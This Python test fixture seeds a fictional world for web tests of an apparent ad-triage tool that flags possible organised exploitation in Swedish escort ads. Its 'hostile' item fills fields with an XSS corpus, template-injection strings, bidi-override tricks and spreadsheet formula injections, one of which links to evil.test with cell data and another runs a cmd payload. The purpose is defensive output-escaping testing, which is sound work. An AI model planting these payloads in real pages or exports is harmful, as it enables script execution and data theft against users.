"""A small, realistic world for the web tests, inserted directly through the models.

- item "organised": one number behind four names, moved Malmö → Göteborg → Stockholm over three
  weeks, ads written from one template, one photo reused under two names (and a resized copy);
- item "hostile": every text field holds script, HTML or template syntax (the XSS corpus), or
  direction-control characters around Arabic text;
- item "outreach": released to outreach, with languages, one number and a name outreach must not see;
- items "filler-N": plain small groups so that the queue has more than one page.

Numbers are fictional Swedish mobiles (070-174 06 xx); hosts are .test.
"""

from __future__ import annotations

import io
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from typing import Any

import numpy as np
from PIL import Image, ImageDraw
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from models.ads import Ad, Site
from models.entities import AdPhone, AdPhoto, AdPlace, AdTemplate, Cluster, Phone, Photo, Place, Template
from models.review import QueueItem
from triage.reason_text import decimal, each, listed, percent, render
from triage.score import Reason
from triage.templates import template_display
from videre.extract.normalise.images import PhotoLimits, process_photo
from videre.services.accounts import add_user
from videre.store.db import Database

PASSWORD = "Lösenord-för-test-2024"
USERS = {"anna.analyst": "analyst", "lars.lead": "lead", "olga.outreach": "outreach", "adam.admin": "admin"}
T0 = datetime(2024, 5, 1, 9, 0, tzinfo=timezone.utc)
PLACES = {"Malmö": (55.605, 13.0038), "Göteborg": (57.7089, 11.9746), "Stockholm": (59.3293, 18.0686),
          "Uppsala": (59.8586, 17.6389), "Jönköping": (57.7826, 14.1618), "Umeå": (63.8258, 20.263)}

XSS = [
    "<script>alert('x1')</script>",
    "<img src=x onerror=alert('x2')>",
    "\"><svg onload=alert('x3')>",
    "</textarea><script>alert('x4')</script>",
    "<iframe src=\"javascript:alert('x5')\"></iframe>",
    "'\"><img src=http://evil.test/x.png onerror=alert('x6')>",
    "<a href=\"javascript:alert('x7')\">klicka</a>",
    "{{ 7*7 }} ${7*7} {% raw %}",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.test/a.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('x8')>",
    "\u202egnp.exe <b onmouseover=alert('x9')>hover</b>",
]
XSS_TEXT = " ".join(XSS)
# Arabic ad text whose number a right-to-left override would draw backwards ("60 60 471-070").
BIDI_NUMBER = "070-174 06 06"
BIDI_BODY = f"مرحبا، أنا ليلى. اتصل \u202e{BIDI_NUMBER}\u202c الآن"
FORMULAS = ['=HYPERLINK("http://evil.test/?d="&A1,"öppna")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3"]
SECRET_NAME = "Zelda Hemlig"
BIDI_CITY = "Upp\u202esala"
# Reason templates as triage.score writes them (the web renders them per language).
NAMES_REASON = "The number {phone} is used for {count} women: {names} (ages {ages})."
MOVEMENT_REASON = "{movers} women seen in {cities} cities, {moves} moves ({per_week} a week): {route}."
HIDDEN_REASON = ("The number is hidden from scrapers in {share} of the ads "
                 "(written in words, look-alike letters or split digits).")
PHOTOS_REASON = "{count} photo(s) used for several women: {examples}."
TEMPLATE = ("Hej! Jag heter {name} och är {age} år. Ny i {city} denna vecka, diskret och "
            "trevlig lägenhet nära centrum. Ring eller sms:a {phone} för tid. Endast seriösa herrar, "
            "inga dolda nummer. Välkommen!")


@dataclass
class World:
    items: dict[str, int] = field(default_factory=dict)
    ads: dict[str, list[int]] = field(default_factory=dict)
    photos: dict[str, int] = field(default_factory=dict)
    users: dict[str, int] = field(default_factory=dict)


def reason(code: str, template: str, params: dict[str, object], weight: float) -> dict[str, object]:
    """A stored reason as triage writes it: the English text is the template rendered untranslated."""
    return Reason(code, render(template, params), weight, template, params).to_json()


def make_photo(seed: int, size: tuple[int, int] = (480, 640)) -> bytes:
    """A synthetic ad-like picture: textured background and a few shapes (never a real person)."""
    rng = np.random.default_rng(seed)
    base = rng.integers(40, 215, size=3)
    noise = rng.normal(0, 28, size=(size[1] // 8, size[0] // 8, 3))
    arr = np.clip(base + np.kron(noise, np.ones((8, 8, 1))), 0, 255).astype(np.uint8)
    img = Image.fromarray(arr, "RGB")
    draw = ImageDraw.Draw(img)
    for _ in range(6):
        x, y = int(rng.integers(0, size[0] - 80)), int(rng.integers(0, size[1] - 80))
        colour = tuple(int(c) for c in rng.integers(0, 255, size=3))
        draw.ellipse((x, y, x + int(rng.integers(40, 160)), y + int(rng.integers(40, 200))), fill=colour)
    out = io.BytesIO()
    img.save(out, "JPEG", quality=88)
    return out.getvalue()


def resized(data: bytes, factor: float) -> bytes:
    img = Image.open(io.BytesIO(data))
    img = img.resize((int(img.width * factor), int(img.height * factor)))
    out = io.BytesIO()
    img.save(out, "JPEG", quality=80)
    return out.getvalue()


class Builder:
    """Adds rows to a session, reusing sites, places and phones already stored."""

    def __init__(self, s: Session) -> None:
        self.s = s
        self.n = s.execute(select(func.count()).select_from(Ad)).scalar() or 0

    def _get_or_add(self, model: Any, column: Any, value: str, **extra: Any) -> int:
        found = self.s.execute(select(model.id).where(column == value)).scalar()
        if found is None:
            row = model(**{column.key: value}, **extra)
            self.s.add(row)
            self.s.flush()
            found = row.id
        return found

    def site(self, slug: str) -> int:
        return self._get_or_add(Site, Site.slug, slug, name=slug, created_at=T0)

    def place(self, name: str) -> int:
        lat, lon = PLACES.get(name, (None, None))
        return self._get_or_add(Place, Place.name, name, country="SE", lat=lat, lon=lon)

    def phone(self, e164: str) -> int:
        return self._get_or_add(Phone, Phone.e164, e164, country="SE", first_seen=T0, is_hub=False, hub_reason="")

    def photo(self, data: bytes) -> int:
        done = process_photo(data, PhotoLimits())
        p = Photo(sha256=done.hashes.sha256, width=done.hashes.width, height=done.hashes.height,
                  fingerprint=done.hashes.pack(), thumbnail=done.thumbnail, first_seen=T0,
                  is_hub=False, hub_reason="")
        self.s.add(p)
        self.s.flush()
        return p.id

    def ad(self, cluster_id: int, site: str, when: datetime, *, title: str, body: str, name: str,
           age: str, location: str, city: str | None, phones: list[tuple[str, str, list[str]]],
           photos: list[int] = (), extraction: dict[str, Any] | None = None) -> int:
        self.n += 1
        ad = Ad(url=f"https://{site}.test/annons/{self.n}", site_id=self.site(site), version=1,
                content_hash=f"{self.n:064x}", first_seen=when, last_seen=when + timedelta(days=2),
                changed_at=when, posted_at=when, title=title, body=body, name=name, age_raw=age,
                location_raw=location, phone_raw=phones[0][1] if phones else "", region="SE",
                age=int(age) if age.isdigit() else None, city=city,
                place_id=self.place(city) if city else None,
                phone_obfuscated=any(m for _, _, m in phones),
                extraction=extraction or {}, cluster_id=cluster_id)
        self.s.add(ad)
        self.s.flush()
        for e164, raw, methods in phones:
            self.s.add(AdPhone(ad_id=ad.id, phone_id=self.phone(e164), raw=raw, field="body",
                               obfuscation=methods))
        for i, pid in enumerate(photos):
            self.s.add(AdPhoto(ad_id=ad.id, photo_id=pid, position=i, url=f"https://{site}.test/img/{pid}-{i}.jpg"))
        if city:
            self.s.add(AdPlace(ad_id=ad.id, place_id=self.place(city), raw=location, first_seen=when, last_seen=when))
        return ad.id

    def item(self, cluster_id: int, score: float, reasons: list[dict[str, Any]], ads: list[int],
             phones: list[str], cities: list[str], names: list[str], route: list[list[str]],
             first: datetime, last: datetime, status: str = "new") -> int:
        summary = {"ads": [f"ad-{a}" for a in ads], "phones": phones, "cities": cities, "names": names,
                   "n_ads": len(ads)}
        cluster = self.s.get(Cluster, cluster_id)
        assert cluster is not None
        cluster.size = len(ads)
        cluster.features = {**summary, "route": route, "names_per_phone": {p: names for p in phones}}
        item = QueueItem(cluster_id=cluster_id, score=score, flagged=True, reasons=reasons, summary=summary,
                         first_seen=first, last_seen=last, scored_at=last, created_at=last, status=status)
        self.s.add(item)
        self.s.flush()
        return item.id

    def cluster(self) -> int:
        c = Cluster(created_at=T0, updated_at=T0, size=0, active=True, features={})
        self.s.add(c)
        self.s.flush()
        return c.id


def _template(b: Builder, ad_ids: list[int]) -> int:
    """The template rows triage would write for these ads (its own display function)."""
    ads = [b.s.get(Ad, a) for a in ad_ids]
    text, slots = template_display([f"{a.title}\n{a.body}" for a in ads])
    t = Template(created_at=T0, updated_at=T0, active=True, size=len(ads), names=len(ads), text=text,
                 digest="", is_hub=False, hub_reason="")
    b.s.add(t)
    b.s.flush()
    for a, fills in zip(ads, slots):
        b.s.add(AdTemplate(ad_id=a.id, template_id=t.id, similarity=0.9, slots=fills))
    return t.id


def _organised(b: Builder, w: World) -> None:
    cid = b.cluster()
    phone = "+46701740605"
    shared = make_photo(11)
    photo_a = b.photo(shared)
    photo_b = b.photo(resized(shared, 0.7))
    photo_c = b.photo(make_photo(12))
    women = [("Anna", "23", "Malmö", "Malmö C"), ("Bella", "21", "Malmö", "Malmö - Möllan"),
             ("Carla", "22", "Göteborg", "GBG - Majorna"), ("Dana", "20", "Stockholm", "Sthlm city")]
    ads = []
    for i, (name, age, city, loc) in enumerate(women):
        shown = "070-174 06 05" if i != 2 else "noll sju noll 174 06 05"
        body = TEMPLATE.format(name=name, age=age, city=city, phone=shown)
        start = body.index(shown)
        ex = {"phones": [{"e164": phone, "raw": shown, "field": "body", "start": start, "end": start + len(shown),
                          "methods": ["words"] if i == 2 else [], "country": "SE"}],
              "languages": ["sv", "en"]}
        photos = [photo_a] if i == 0 else [photo_b] if i == 1 else [photo_c]
        ads.append(b.ad(cid, "escortguide" if i % 2 == 0 else "rosasidan", T0 + timedelta(days=7 * i),
                        title=f"{name} {age} – ny i {city}", body=body, name=name, age=age, location=loc,
                        city=city, phones=[(phone, shown, ["words"] if i == 2 else [])], photos=photos,
                        extraction=ex))
    _template(b, ads)
    route = [["Malmö", "2024-05-01"], ["Göteborg", "2024-05-15"], ["Stockholm", "2024-05-22"]]
    reasons = [
        reason("many_names_one_number", NAMES_REASON,
               {"phone": phone, "count": 4, "names": listed([name for name, *_ in women]),
                "ages": listed(sorted(int(age) for _, age, *_ in women))}, 2.5),
        reason("observed_movement", MOVEMENT_REASON,
               {"movers": 2, "cities": 3, "moves": 2, "per_week": decimal(2 / 3, 1),
                "route": {"route": route, "more": False}}, 1.5),
        reason("phone_obfuscated", HIDDEN_REASON, {"share": percent(0.25)}, 1.0),
        # As triage names a shared photo: by the SHA-256 of its group's first photo.
        reason("shared_photos", PHOTOS_REASON,
               {"count": 1, "examples": each("photo {label} under {names}",
                                             [{"label": b.s.get(Photo, photo_a).sha256, "names": listed(["Anna", "Bella"], 4)}],
                                             "; ")}, 1.5),
    ]
    w.items["organised"] = b.item(cid, 6.5, reasons, ads, [phone], ["Göteborg", "Malmö", "Stockholm"],
                                  ["anna", "bella", "carla", "dana"], route, T0, T0 + timedelta(days=21))
    w.ads["organised"] = ads
    w.photos.update(shared=photo_a, resized=photo_b, other=photo_c)


def _hostile(b: Builder, w: World) -> None:
    cid = b.cluster()
    phone = "+46701740606"
    ads = []
    for i, payload in enumerate(XSS[:4]):
        city = "Uppsala" if i % 2 == 0 else "Jönköping"
        ads.append(b.ad(cid, "escortguide", T0 + timedelta(days=i), title=f"{payload} titel {i}",
                        body=f"Text {i}: {XSS_TEXT}\nRing 070-174 06 06.", name=XSS[(i + 1) % len(XSS)],
                        age="19", location=XSS[(i + 2) % len(XSS)], city=city,
                        phones=[(phone, "070-174 06 06", [])],
                        extraction={"languages": [XSS[3]]}))
    # Direction controls and Arabic: shown as markers, the number in stored order.
    ads.append(b.ad(cid, "escortguide", T0 + timedelta(days=4), title="\u202eليلى في أوبسالا",
                    body=BIDI_BODY, name="\u200fليلى", age="19", location="\u2067Uppsala\u2069",
                    city="Uppsala", phones=[(phone, BIDI_NUMBER, [])]))
    # Spreadsheet formulas: exports must not let a spreadsheet run them.
    ads.append(b.ad(cid, "rosasidan", T0 + timedelta(days=4), title=FORMULAS[0], body=FORMULAS[3],
                    name=FORMULAS[1], age="19", location=FORMULAS[2], city="Uppsala",
                    phones=[(phone, "070-174 06 06", [])]))
    # A reason from an older run (text only), a malformed one, and one whose parameters are hostile.
    reasons = [{"code": "many_names_one_number", "text": f"The number {phone} is used under 4 names: {XSS_TEXT}",
                "weight": 2.5},
               {"code": XSS[0], "text": XSS[1], "weight": 0.5, "template": XSS[2], "params": XSS[3]},
               reason("shared_photos", PHOTOS_REASON,
                      {"count": 1, "examples": each("photo {label} under {names}",
                                                    [{"label": XSS[6], "names": listed(XSS[:6], 4)}], "; ")}, 0.5),
               reason("observed_movement", MOVEMENT_REASON,
                      {"movers": 2, "cities": 2, "moves": 1, "per_week": decimal(1.75, 1),
                       "route": {"route": [[BIDI_CITY, "2024-05-01"], [XSS[4], "2024-05-02"]], "more": False}},
                      0.5)]
    w.items["hostile"] = b.item(cid, 3.0, reasons, ads, [phone, XSS[2]], ["Uppsala", XSS[1]],
                                [XSS[0], XSS[5]], [["Uppsala", "2024-05-01"], [XSS[4], "2024-05-02"]],
                                T0, T0 + timedelta(days=4))
    w.ads["hostile"] = ads


def _outreach(b: Builder, w: World) -> None:
    cid = b.cluster()
    phone = "+46701740607"
    ads = [b.ad(cid, "rosasidan", T0 + timedelta(days=i), title=f"{SECRET_NAME} ny i Umeå",
                body=f"Hemlig text om {SECRET_NAME}. Ring 070-174 06 07.", name=SECRET_NAME, age="24",
                location="Umeå centrum", city="Umeå", phones=[(phone, "070-174 06 07", [])],
                photos=[b.photo(make_photo(30 + i))], extraction={"languages": ["ro", "en"]})
           for i in range(2)]
    reasons = [{"code": "foreign_number", "text": "Secret reason text.", "weight": 2.0}]
    w.items["outreach"] = b.item(cid, 2.0, reasons, ads, [phone], ["Umeå"], [SECRET_NAME.casefold()],
                                 [["Umeå", "2024-05-01"]], T0, T0 + timedelta(days=1), status="outreach")
    w.ads["outreach"] = ads


def _fillers(b: Builder, w: World, n: int) -> None:
    for k in range(n):
        cid = b.cluster()
        phone = f"+4670174{1000 + k:04d}"
        city = ["Malmö", "Göteborg", "Stockholm"][k % 3]
        ads = [b.ad(cid, "escortguide", T0 + timedelta(days=k % 20, hours=j),
                    title=f"Filler {k} ad {j}", body=f"Vanlig annons nummer {k}.", name=f"Namn{k}{j}",
                    age="30", location=city, city=city, phones=[(phone, phone, [])]) for j in range(2)]
        w.items[f"filler-{k}"] = b.item(
            cid, 2.0 - k / 1000, [{"code": "several_sites", "text": "Advertised on 2 sites.", "weight": 0.5},
                                  {"code": "many_names_one_number", "text": "x", "weight": 1.5}],
            ads, [phone], [city], [f"namn{k}0", f"namn{k}1"], [[city, "2024-05-01"]], T0, T0 + timedelta(days=1))


TOWNS = {"Skövde": (58.3903, 13.8461), "Borås": (57.721, 12.9401), "Göteborg": (57.7089, 11.9746)}
WOMEN = ["Aom", "Blessing", "Nadia"]


def add_big_item(db: Database) -> int:
    """A big item beside the seeded world (not part of it): 60 ads of three women moved between three towns, on one number, with their photos."""
    with db.session() as s:
        for name, (lat, lon) in TOWNS.items():
            place = s.execute(select(Place).where(Place.name == name)).scalar()
            if place is None:
                s.add(Place(name=name, country="SE", lat=lat, lon=lon))
            else:
                place.lat, place.lon = lat, lon
        s.flush()
        b = Builder(s)
        cid = b.cluster()
        photos = [b.photo(make_photo(60 + i)) for i in range(3)]
        towns = list(TOWNS)
        ads = [b.ad(cid, "escortguide", T0 + timedelta(days=i), title=f"{WOMEN[i % 3]} ny i stan {i}",
                    body=f"Ring 070-174 77 77. Annons {i}.", name=WOMEN[i % 3], age="22", location="centrum",
                    city=towns[(i // 3) % 3], phones=[("+46701747777", "070-174 77 77", [])], photos=[photos[i % 3]])
               for i in range(60)]
        return b.item(cid, 4.0, [{"code": "many_names_one_number", "text": "x", "weight": 2.0},
                                 {"code": "a_code_from_a_newer_scorer", "text": "Something new.", "weight": 0.5}],
                      ads, ["+46701747777"], towns, [w.lower() for w in WOMEN], [], T0, T0 + timedelta(days=60))


def seed(db: Database, fillers: int = 60) -> World:
    w = World()
    with db.session() as s:
        for name, role in USERS.items():
            w.users[name] = add_user(s, name, PASSWORD, role, 12, language="sv").id
        b = Builder(s)
        _organised(b, w)
        _hostile(b, w)
        _outreach(b, w)
        _fillers(b, w, fillers)
        for name in PLACES:
            b.place(name)
    return w
